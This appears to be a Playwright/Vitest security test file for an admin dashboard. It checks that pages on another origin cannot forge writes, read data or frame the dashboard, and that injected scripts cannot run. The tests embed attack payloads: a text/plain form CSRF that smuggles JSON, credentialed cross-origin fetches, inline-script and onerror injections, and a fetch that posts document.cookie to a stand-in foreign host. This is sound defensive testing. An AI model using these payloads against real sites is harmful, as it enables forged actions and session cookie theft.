import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { CHROMIUM_MISSING, startBrowser, WatchedPage } from '../support/browser.ts';
import { admin, ConsoleScene } from '../support/console-scene.ts';
import { freePort } from '../support/free-port.ts';
import { CLIENT_ID, CLIENT_SECRET, RealProvider } from '../support/openid-providers.ts';

const owner = admin('olga', 'owner');

/** A page of somebody else's, empty: what it does is said by each test. */
class ForeignPage {
  readonly #server: Server;
  /** What was asked of it. */
  readonly asked: string[] = [];

  private constructor(server: Server) {
    this.#server = server;
  }

  static async start(): Promise<ForeignPage> {
    const server = createServer();
    const own = new ForeignPage(server);
    server.on('request', (request, response) => {
      own.asked.push(request.url ?? '');
      const isScript = request.url === '/script.js';
      response
        .writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'text/html' })
        .end(isScript ? 'window.ran = 1' : '<!doctype html><title>Prizes</title>');
    });
    await new Promise<void>((resolve) => server.listen(0, resolve));
    return own;
  }

  /** @param host 127.0.0.1 is the dashboard's site, and another origin: cookies are sent along; localhost is another site */
  at(host: string): string {
    return `http://${host}:${(this.#server.address() as AddressInfo).port}`;
  }

  close(): void {
    this.#server.close();
    this.#server.closeAllConnections();
  }
}

let browser: Browser;
let provider: RealProvider;
let scene: ConsoleScene;
let foreign: ForeignPage;

beforeAll(async () => {
  if (CHROMIUM_MISSING !== null) return;
  const port = await freePort();
  const origin = `http://127.0.0.1:${port}`;
  [browser, provider, foreign] = await Promise.all([
    startBrowser(),
    RealProvider.start(origin, 'localhost'),
    ForeignPage.start(),
  ]);
  scene = await new ConsoleScene([owner], {
    config: `metrics_listen = "127.0.0.1:${port}"
[admin]
origin = "${origin}"
[admin.oidc]
issuer = "${provider.issuer}"
client_id = "${CLIENT_ID}"
client_secret = "${CLIENT_SECRET}"
[admin.oidc.roles]
"ai-viewers" = "viewer"
`,
    env: { SLUICE_DEMO: '1' },
  }).ready();
});
afterAll(async () => {
  await browser?.close();
  await scene?.stop();
  provider?.close();
  foreign?.close();
});
beforeEach((context) => {
  if (CHROMIUM_MISSING !== null) context.skip(CHROMIUM_MISSING);
});

/** Runs with a page on which somebody is signed in. */
async function signedIn(does: (page: Page, watched: WatchedPage) => Promise<void>): Promise<void> {
  const watched = await WatchedPage.open(browser, scene.origin);
  try {
    const { page } = watched;
    await page.goto(`${scene.origin}/`);
    await page.getByLabel('Admin token').fill(owner.token);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.locator('aside').waitFor();
    await does(page, watched);
  } finally {
    await watched.close();
  }
}

const reloads = (): number => scene.gateway.events('config_reloaded').length;

/** The statuses of what was written to the console from here on; each write leaves its line. */
async function writes(from: number): Promise<readonly unknown[]> {
  // Behind all that came before it.
  expect((await scene.call(owner, 'POST', '/config/reload')).status).toBe(200);
  return scene.gateway
    .events('admin_audit')
    .slice(from, -1)
    .map(({ status }) => status);
}

const audited = (): number => scene.gateway.events('admin_audit').length;

describe.each([
  'localhost',
  '127.0.0.1',
])('a page of another origin, at %s, in the browser of somebody who is signed in', (host) => {
  const write = () => `${scene.origin}/admin/v1/config/reload`;

  test('cannot write with a form', async () => {
    await signedIn(async (page) => {
      await page.goto(foreign.at(host));
      const [before, lines] = [reloads(), audited()];
      const [answer] = await Promise.all([
        page.waitForResponse(write()),
        page.evaluate(`(() => {
          const form = document.createElement('form');
          form.method = 'post';
          form.enctype = 'text/plain';
          form.action = ${JSON.stringify(write())};
          const field = document.createElement('input');
          field.name = '{"reason":"a form","x":"';
          field.value = '"}';
          form.append(field);
          document.body.append(form);
          form.submit();
        })()`),
      ]);
      // No cookie comes from another site, and from another port of this one no proof.
      expect(answer.status()).toBe(host === 'localhost' ? 401 : 403);
      expect(reloads()).toBe(before);
      expect(await writes(lines)).toEqual(host === 'localhost' ? [] : [403]);
    });
  });

  test('cannot write with a request that needs no leave, nor get leave for one that does', async () => {
    await signedIn(async (page) => {
      await page.goto(foreign.at(host));
      const [before, lines] = [reloads(), audited()];
      const tried = await page.evaluate(`(async () => {
        const to = ${JSON.stringify(write())};
        const tries = [
          { method: 'POST', mode: 'no-cors', credentials: 'include' },
          { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{}' },
          { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' },
          { method: 'POST', credentials: 'include', headers: { 'x-sluice-csrf': 'guessed' } },
          { method: 'DELETE', credentials: 'include' },
        ];
        return Promise.all(tries.map((init) => fetch(to, init).then(({ type }) => type, ({ name }) => name)));
      })()`);
      // Nor is what comes back told.
      expect(tried).toEqual(new Array(5).fill('TypeError'));
      expect(reloads()).toBe(before);
      // Those that need no leave were sent, and found somebody only where the cookie came along.
      expect(await writes(lines)).toEqual(host === 'localhost' ? [] : [403, 403]);
    });
  });

  test('reads nothing: no answer, no live screen, no page in a frame', async () => {
    await signedIn(async (page, watched) => {
      await page.goto(foreign.at(host));
      const read = await page.evaluate(`(async () => {
        const at = ${JSON.stringify(scene.origin)};
        const paths = ['/admin/v1/session', '/admin/v1/node', '/admin/v1/keys', '/targets', '/metrics'];
        const told = paths.map((path) =>
          fetch(at + path, { credentials: 'include' }).then((answer) => answer.text(), ({ name }) => name));
        const live = new Promise((resolve) => {
          const source = new EventSource(at + '/admin/v1/live', { withCredentials: true });
          source.addEventListener('now', () => resolve('told'));
          source.addEventListener('error', () => { source.close(); resolve('refused'); });
        });
        return Promise.all([...told, live]);
      })()`);
      expect(read).toEqual([...new Array(5).fill('TypeError'), 'refused']);
      watched.taken();
      await page.evaluate(`(() => new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.addEventListener('load', resolve);
        frame.src = ${JSON.stringify(`${scene.origin}/`)};
        document.body.append(frame);
      }))()`);
      expect(watched.taken().join()).toContain('frame-ancestors');
      const held = page.frames().find((frame) => frame.parentFrame() !== null);
      expect(held?.url()).not.toContain(scene.origin);
      expect(await held?.locator('aside, form').count()).toBe(0);
    });
  });
});

test('nothing inline runs on the dashboard, nothing is loaded from elsewhere, and nothing is told there', async () => {
  await signedIn(async (page, watched) => {
    const at = foreign.at('127.0.0.1');
    foreign.asked.length = 0;
    const result = await page.evaluate(`(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = "inline"';
      document.head.append(script);
      const place = document.createElement('div');
      place.innerHTML = '<img src="/nothing" onerror="window.ran = \\'handler\\'"><a href="javascript:window.ran=\\'link\\'">x</a>';
      document.body.append(place);
      place.querySelector('a').click();
      try { setTimeout('window.ran = "text"', 0); } catch {}
      const other = document.createElement('script');
      other.src = ${JSON.stringify(`${at}/script.js`)};
      const loaded = new Promise((resolve) => { other.onload = () => resolve('loaded'); other.onerror = () => resolve('refused'); });
      document.head.append(other);
      const sent = fetch(${JSON.stringify(`${at}/sent`)}, { method: 'POST', mode: 'no-cors', body: document.cookie }).then(() => 'sent', () => 'refused');
      const shown = new Promise((resolve) => { const image = new Image(); image.onload = () => resolve('shown'); image.onerror = () => resolve('refused'); image.src = ${JSON.stringify(`${at}/pixel?x=1`)}; });
      const all = await Promise.all([loaded, sent, shown]);
      await new Promise((resolve) => setTimeout(resolve, 50));
      return [...all, window.ran ?? 'nothing ran', document.cookie];
    })()`);
    // The session's cookie is none that a script reads.
    expect(result).toEqual(['refused', 'refused', 'refused', 'nothing ran', '']);
    expect(foreign.asked).toEqual([]);
    expect(watched.taken().join()).toContain('Content Security Policy');
  });
});

describe('a sign-in by an OpenID provider of another site, clicked through', () => {
  test('ends on the dashboard, as who one is there and in the role that the groups give', async () => {
    provider.signsIn = { name: 'ada', groups: ['ai-viewers'] };
    const watched = await WatchedPage.open(browser, scene.origin);
    const { page } = watched;
    await page.goto(`${scene.origin}/`);
    await page.getByRole('link', { name: 'Sign in with your organisation' }).click();
    await page.locator('aside').waitFor();
    expect(page.url()).toMatch(new RegExp(`^${scene.origin}/(?:#|$)`));
    expect(await page.locator('aside').innerText()).toContain('oidc:ada');
    await page.goto(`${scene.origin}/#/keys`);
    const mint = page.getByRole('button', { name: /Mint a key/ });
    await mint.waitFor();
    expect(await mint.getAttribute('title')).toContain('signed in as viewer');
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByLabel('Admin token').waitFor();
    await watched.close();
  });

  test('of somebody without a role ends without a session', async () => {
    provider.signsIn = { name: 'mallory', groups: ['others'] };
    const watched = await WatchedPage.open(browser, scene.origin);
    const { page, context } = watched;
    await page.goto(`${scene.origin}/`);
    await page.getByRole('link', { name: 'Sign in with your organisation' }).click();
    await page.getByText('has no role here').waitFor();
    expect((await context.cookies()).filter(({ name }) => name === 'sluice_session')).toEqual([]);
    await watched.close();
  });
});

test("the demo's dashboard says on each screen that its numbers are made up", async () => {
  await signedIn(async (page) => {
    for (const view of ['now', 'spend', 'keys', 'config']) {
      await page.goto(`${scene.origin}/#/${view}`);
      await page.locator('main h1').first().waitFor();
      expect(await page.locator('aside').innerText()).toContain('demo');
      await page.getByText('What you see was made up by npm run demo.').waitFor();
    }
  });
});
